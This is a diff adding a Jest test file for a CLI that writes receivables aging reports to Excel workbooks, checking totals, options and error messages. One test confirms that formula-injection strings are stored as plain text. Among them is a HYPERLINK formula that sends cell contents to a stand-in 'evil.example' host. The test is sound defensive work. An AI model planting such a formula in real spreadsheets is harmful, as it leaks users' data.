@@ -1,0 +1,230 @@
+import * as fs from "fs";
+import * as path from "path";
+import ExcelJS from "exceljs";
+import JSZip from "jszip";
+import { fileSafe, groupKeyOf, parseBy } from "../../src/cli/aging";
+import { DEMO_AS_OF, demoReceivables, HOSTILE } from "../../src/cli/demoData";
+import { buildAging } from "../../src/reports/aging";
+import { RawTable } from "../../src/reports/table";
+import { rulebookStamp } from "../../src/rules/fingerprint";
+import { DEFAULT_RULEBOOK } from "../../src/rules/rulebook";
+import { formatFen } from "../../src/rules/values";
+import { cellsWithText, ltc, readWorkbook, rowStartingWith, tempDir, worksheetXml, writeInput } from "./cliHarness";
+
+jest.setTimeout(60_000);
+
+const dir = tempDir("aging");
+const input = path.join(dir, "receivables.xlsx");
+const { table, messy } = demoReceivables();
+const expected = buildAging(table, { asOf: DEMO_AS_OF, groupBy: ["region", "office"] }, DEFAULT_RULEBOOK);
+
+beforeAll(async () => {
+  await writeInput(input, [{ sheet: "应收账款", tableName: "Receivables", table }], { junkFirst: true });
+});
+
+afterAll(() => {
+  fs.rmSync(dir, { recursive: true, force: true });
+});
+
+/** The grand-total row of a summary sheet: { total, count } read from the cells under 合计/Total and 笔数/Items. */
+function grandTotal(ws: ExcelJS.Worksheet, lang: "zh" | "en" = "zh"): { total: number; count: number; buckets: number[] } {
+  const totalLabel = lang === "en" ? "Grand total" : "总计";
+  const row = rowStartingWith(ws, totalLabel);
+  if (!row) throw new Error(`no ${totalLabel} row on ${ws.name}`);
+  const nb = expected.buckets.length;
+  return { buckets: row.slice(1, 1 + nb) as number[], total: row[1 + nb] as number, count: row[3 + nb] as number };
+}
+
+describe("ltc aging: the report", () => {
+  const out = path.join(dir, "aging.xlsx");
+  let run: Awaited<ReturnType<typeof ltc>>;
+  beforeAll(async () => {
+    run = await ltc(["aging", input, "--as-of", "2026-11-30", "--by", "片区,代表处", "-o", out]);
+  });
+
+  test("exits 0 and prints rows, items, excluded, reconciliation and the rulebook fingerprint on stdout", () => {
+    expect(run.errLines).toEqual([]);
+    expect(run.code).toBe(0);
+    const r = expected.reconciliation;
+    expect(run.out).toContain(`rows read ${r.rows} · open items ${expected.items.length} · credits ${expected.credits.length} · excluded ${expected.excluded.length}`);
+    expect(run.out).toContain(`reconciliation OK: input ${formatFen(r.inputFen)} = buckets ${formatFen(r.bucketsFen)}`);
+    expect(run.out).toContain(`rulebook ${rulebookStamp(DEFAULT_RULEBOOK)}`);
+    expect(run.out).toContain(`wrote ${out}`);
+    // the table was found (a junk sheet comes first), and the report is not on stderr
+    expect(run.err).not.toMatch(/reconciliation/);
+  });
+
+  test("the workbook has the five report sheets and its totals equal the engine's, to the fen", async () => {
+    const wb = await readWorkbook(out);
+    expect(wb.worksheets.map((w) => w.name)).toEqual(["账龄汇总", "账龄明细", "催收措施", "坏账准备", "数据问题"]);
+    const g = grandTotal(wb.getWorksheet("账龄汇总")!);
+    expect(Math.round(g.total * 100)).toBe(expected.grandTotal.totalFen);
+    expect(g.buckets.map((b) => Math.round(b * 100))).toEqual(expected.grandTotal.bucketFen);
+    expect(g.count).toBe(expected.items.length);
+    // every group of 片区 / 代表处 is a row
+    for (const group of expected.groups) expect(rowStartingWith(wb.getWorksheet("账龄汇总")!, group.label)).toBeDefined();
+  });
+
+  test("the data issues sheet lists the messy rows by worksheet row number", async () => {
+    const wb = await readWorkbook(out);
+    const ws = wb.getWorksheet("数据问题")!;
+    const rows: number[] = [];
+    ws.eachRow((row) => {
+      const v = row.getCell(1).value;
+      if (typeof v === "number") rows.push(v);
+    });
+    for (const r of [messy.badDate, messy.overpaid, messy.unknownClass, messy.blankAmount, messy.duplicate]) expect(rows).toContain(r);
+  });
+
+  test("hostile text is a string cell in the .xlsx: never a formula, read back unchanged", async () => {
+    const wb = await readWorkbook(out);
+    const hostile = [HOSTILE.hyperlink, HOSTILE.cmd, HOSTILE.sum, HOSTILE.minus, HOSTILE.tab];
+    const cells = cellsWithText(wb.getWorksheet("账龄明细")!, hostile);
+    expect(new Set(cells.map((c) => c.value))).toEqual(new Set(hostile));
+    for (const cell of cells) {
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+    }
+    // and in the file itself: the report has no formula element at all, and the texts are shared strings
+    for (const xml of await worksheetXml(out)) expect(xml).not.toMatch(/<f[ >]/);
+    const zip = await JSZip.loadAsync(fs.readFileSync(out));
+    const shared = await zip.file("xl/sharedStrings.xml")!.async("string");
+    expect(shared).toContain("=HYPERLINK(&quot;http://evil.example/steal?x=&quot;&amp;A1,&quot;点击查看对账单&quot;)");
+    expect(shared).toContain("@SUM(A1:A9)");
+  });
+
+  test("the as-of date and the rulebook stamp are written into the report", async () => {
+    const wb = await readWorkbook(out);
+    const ws = wb.getWorksheet("账龄汇总")!;
+    expect(ws.headerFooter.oddFooter).toContain("2026-11-30");
+    expect(ws.headerFooter.oddFooter).toContain(rulebookStamp(DEFAULT_RULEBOOK));
+    const asOf = rowStartingWith(ws, "截至日期")!;
+    expect(asOf[1]).toEqual(new Date(Date.UTC(2026, 10, 30)));
+  });
+});
+
+describe("ltc aging: options", () => {
+  test("--lang en --basis invoice --by 客户分类: English sheets, grouped by class", async () => {
+    const out = path.join(dir, "aging-en.xlsx");
+    const run = await ltc(["aging", input, "--as-of", "2026/11/30", "--lang", "en", "--basis", "invoice", "--by", "客户分类", "-o", out]);
+    expect(run.errLines).toEqual([]);
+    expect(run.code).toBe(0);
+    const wb = await readWorkbook(out);
+    expect(wb.worksheets.map((w) => w.name)).toEqual(["Aging summary", "Aging detail", "Actions", "Provision", "Data issues"]);
+    const en = buildAging(table, { asOf: DEMO_AS_OF, basis: "invoice", groupBy: ["customerClass"], lang: "en" }, DEFAULT_RULEBOOK);
+    const summary = wb.getWorksheet("Aging summary")!;
+    expect(Math.round(grandTotal(summary, "en").total * 100)).toBe(en.grandTotal.totalFen);
+    expect(rowStartingWith(summary, "Class B")).toBeDefined();
+    expect(rowStartingWith(summary, "Unclassified")).toBeDefined();
+  });
+
+  test("--split-by 片区 writes one file per region into the directory; their totals add up to the whole", async () => {
+    const outDir = path.join(dir, "by-region");
+    const run = await ltc(["aging", input, "--as-of", "2026-11-30", "--split-by", "片区", "-o", outDir]);
+    expect(run.errLines).toEqual([]);
+    expect(run.code).toBe(0);
+    const files = fs.readdirSync(outDir).sort();
+    expect(files).toEqual(expected.regions.map((r) => `账龄-${fileSafe(r.region)}-2026-11-30.xlsx`).sort());
+    let sum = 0;
+    for (const f of files) {
+      const wb = await readWorkbook(path.join(outDir, f));
+      const summary = wb.worksheets[0];
+      expect(summary.name).toMatch(/片区 账龄汇总$/);
+      sum += Math.round(grandTotal(summary).total * 100);
+    }
+    expect(sum).toBe(expected.grandTotal.totalFen);
+    for (const f of files) expect(run.out).toContain(f);
+  });
+
+  test("-o an existing directory puts <input>-aging.xlsx in it", async () => {
+    const outDir = tempDir("aging-out");
+    const run = await ltc(["aging", input, "--as-of", "2026-11-30", "-o", outDir]);
+    expect(run.code).toBe(0);
+    expect(fs.existsSync(path.join(outDir, "receivables-aging.xlsx"))).toBe(true);
+    fs.rmSync(outDir, { recursive: true, force: true });
+  });
+
+  test("--sheet and --table pick the input; without them the receivables table is found past a junk sheet", async () => {
+    for (const pick of [["--sheet", "应收账款"], ["--table", "receivables"], []]) {
+      const out = path.join(dir, `pick-${pick.length}.xlsx`);
+      const run = await ltc(["aging", input, "--as-of", "2026-11-30", ...pick, "-o", out]);
+      expect(run.errLines).toEqual([]);
+      expect(run.out).toContain(`rows read ${expected.reconciliation.rows} `);
+    }
+  });
+
+  test("a progress bar goes to stderr only when stderr is a terminal", async () => {
+    const quiet = await ltc(["aging", input, "--as-of", "2026-11-30", "-o", path.join(dir, "p1.xlsx")]);
+    expect(quiet.err).not.toMatch(/[\r\u001b]/);
+    const tty = await ltc(["aging", input, "--as-of", "2026-11-30", "-o", path.join(dir, "p2.xlsx")], { tty: true });
+    expect(tty.code).toBe(0);
+    expect(tty.err).toMatch(/\rreading receivables\.xlsx/);
+    expect(tty.err).toMatch(/\r\u001b\[K$/); // the bar is cleared at the end
+    expect(tty.out).not.toMatch(/[\r\u001b]/);
+  });
+
+  test("group-by words in Chinese, traditional and English", () => {
+    expect(parseBy("片区,代表处")).toEqual(["region", "office"]);
+    expect(parseBy("片區，代表處")).toEqual(["region", "office"]);
+    expect(parseBy("Region, Product line")).toEqual(["region", "productLine"]);
+    expect(parseBy("customer")).toEqual(["customer"]);
+    expect(parseBy(undefined)).toEqual(["region"]);
+    expect(groupKeyOf("客户分类")).toBe("customerClass");
+  });
+});
+
+describe("ltc aging: bad input files and options give exit 2 and one line", () => {
+  const notXlsx = path.join(dir, "notes.xlsx");
+  const zipNotXlsx = path.join(dir, "archive.xlsx");
+  const noAmount = path.join(dir, "no-amount.xlsx");
+  const noRegion = path.join(dir, "no-region.xlsx");
+  beforeAll(async () => {
+    fs.writeFileSync(notXlsx, "合同号,金额\nHT-1,100\n");
+    const zip = new JSZip();
+    zip.file("readme.txt", "not a workbook");
+    fs.writeFileSync(zipNotXlsx, await zip.generateAsync({ type: "nodebuffer" }));
+    const strip = (t: RawTable, drop: string[]): RawTable => {
+      const keep = t.header.map((h, i) => (drop.includes(String(h)) ? -1 : i)).filter((i) => i >= 0);
+      return { ...t, header: keep.map((i) => t.header[i]), rows: t.rows.map((r) => keep.map((i) => r[i])) };
+    };
+    await writeInput(noAmount, [{ sheet: "应收账款", tableName: "R", table: strip(table, ["金额"]) }]);
+    await writeInput(noRegion, [{ sheet: "应收账款", tableName: "R", table: strip(table, ["片区", "代表处"]) }]);
+  });
+
+  const out = () => path.join(dir, "bad.xlsx");
+  const cases: [string, () => string[], RegExp][] = [
+    ["missing file", () => [path.join(dir, "nope.xlsx"), "--as-of", "2026-11-30", "-o", out()], /^ltc: cannot read .*nope\.xlsx: no such file$/],
+    ["a text file named .xlsx", () => [notXlsx, "--as-of", "2026-11-30", "-o", out()], /^ltc: .*notes\.xlsx is not an \.xlsx workbook \(not a zip file\)$/],
+    ["a zip that is not a workbook", () => [zipNotXlsx, "--as-of", "2026-11-30", "-o", out()], /^ltc: .*archive\.xlsx is not a readable \.xlsx workbook/],
+    ["a directory", () => [dir, "--as-of", "2026-11-30", "-o", out()], /is a directory, not an \.xlsx workbook$/],
+    ["no --as-of", () => [input, "-o", out()], /^ltc: --as-of is required/],
+    ["an impossible date", () => [input, "--as-of", "2026-02-30", "-o", out()], /^ltc: --as-of "2026-02-30": not a date; accepts 2026-11-30/],
+    ["a number for a date", () => [input, "--as-of", "46356", "-o", out()], /^ltc: --as-of "46356": not a date/],
+    ["unknown --by key", () => [input, "--as-of", "2026-11-30", "--by", "部门", "-o", out()], /^ltc: --by "部门": accepts 片区 \(region\), 代表处 \(office\)/],
+    ["three --by keys", () => [input, "--as-of", "2026-11-30", "--by", "片区,代表处,客户", "-o", out()], /^ltc: --by .*one or two of/],
+    ["the same --by key twice", () => [input, "--as-of", "2026-11-30", "--by", "片区,region", "-o", out()], /must differ/],
+    ["bad --basis", () => [input, "--as-of", "2026-11-30", "--basis", "paid", "-o", out()], /^ltc: --basis "paid": accepts due/],
+    ["bad --lang", () => [input, "--as-of", "2026-11-30", "--lang", "fr", "-o", out()], /^ltc: --lang "fr": accepts zh or en$/],
+    ["--split-by other than region", () => [input, "--as-of", "2026-11-30", "--split-by", "客户", "-o", dir], /^ltc: --split-by "客户": one report per 片区/],
+    ["--split-by into a file", () => [input, "--as-of", "2026-11-30", "--split-by", "片区", "-o", input], /with --split-by, -o is a directory/],
+    ["no -o", () => [input, "--as-of", "2026-11-30"], /^ltc: aging needs -o/],
+    ["-o not .xlsx", () => [input, "--as-of", "2026-11-30", "-o", path.join(dir, "out.csv")], /^ltc: -o .*out\.csv: the report is an \.xlsx file/],
+    ["-o in a missing directory", () => [input, "--as-of", "2026-11-30", "-o", path.join(dir, "no", "out.xlsx")], /the directory .* does not exist$/],
+    ["--sheet and --table", () => [input, "--as-of", "2026-11-30", "--sheet", "a", "--table", "b", "-o", out()], /^ltc: give --sheet or --table, not both$/],
+    ["unknown sheet", () => [input, "--as-of", "2026-11-30", "--sheet", "Sheet9", "-o", out()], /^ltc: .*receivables\.xlsx: No sheet named "Sheet9" \(sheets: 说明, 应收账款\)$/],
+    ["unknown table", () => [input, "--as-of", "2026-11-30", "--table", "T9", "-o", out()], /^ltc: .*No table named "T9" \(tables: Receivables\)$/],
+    ["missing required column", () => [noAmount, "--as-of", "2026-11-30", "-o", out()], /^ltc: The table has no column for 金额 \(Amount\); accepted headers: 金额, Amount/],
+    ["group-by column missing", () => [noRegion, "--as-of", "2026-11-30", "--by", "片区", "-o", out()], /^ltc: groupBy: the table has no column for 片区 \(Region\)/],
+    ["no input", () => ["--as-of", "2026-11-30", "-o", out()], /^ltc: aging needs an input workbook/],
+    ["two inputs", () => [input, input, "--as-of", "2026-11-30", "-o", out()], /^ltc: aging takes one input workbook, got 2$/],
+    ["unknown option", () => [input, "--as-off", "2026-11-30", "-o", out()], /^ltc: .*Unknown option '--as-off'/],
+  ];
+  test.each(cases)("%s", async (_name, args, message) => {
+    const run = await ltc(["aging", ...args()]);
+    expect(run.code).toBe(2);
+    expect(run.errLines).toHaveLength(1);
+    expect(run.errLines[0]).toMatch(message);
+    expect(run.out).toBe("");
+    expect(fs.existsSync(out())).toBe(false);
+  });
+});
